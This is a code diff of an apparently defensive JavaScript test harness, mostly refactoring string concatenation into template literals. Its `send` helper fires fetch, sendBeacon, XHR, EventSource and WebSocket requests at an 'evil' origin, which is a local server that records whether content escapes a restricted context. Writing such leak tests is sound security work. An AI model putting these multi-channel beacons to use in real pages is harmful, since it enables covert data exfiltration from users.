@@ -42,25 +42,25 @@ function help(evil, own) {
     blob: (text, type = "text/html") => URL.createObjectURL(new Blob([text], { type })),
     add: (name, properties = {}, parent = body) =>
       parent.appendChild(Object.assign(document.createElement(name), properties)),
-    script: (text) => `<script>${text}</` + "script>",
+    script: (text) => `<script>${text}</script>`,
     /** Whatever there is to call, plainly: nothing here depends on a built-in that a script may have replaced. */
     send(url = evil) {
       try {
-        fetch(url + "/fetch", { mode: "no-cors" }).catch(() => {});
+        fetch(`${url}/fetch`, { mode: "no-cors" }).catch(() => {});
       } catch {}
       try {
-        navigator.sendBeacon(url + "/beacon", "x");
+        navigator.sendBeacon(`${url}/beacon`, "x");
       } catch {}
       try {
         const x = new XMLHttpRequest();
-        x.open("GET", url + "/xhr");
+        x.open("GET", `${url}/xhr`);
         x.send();
       } catch {}
       try {
-        new EventSource(url + "/events");
+        new EventSource(`${url}/events`);
       } catch {}
       try {
-        new WebSocket(url + "/socket");
+        new WebSocket(`${url}/socket`);
       } catch {}
     },
   };
@@ -109,7 +109,7 @@ class Run {
       this.requests.push(`${request.method} ${request.url}`);
       socket.destroy();
     });
-    server.on("clientError", (error, socket) => socket.destroy());
+    server.on("clientError", (_error, socket) => socket.destroy());
     const { port, origin, stop } = await listen(server);
     this.evil = origin;
     this.#servers.push(stop);
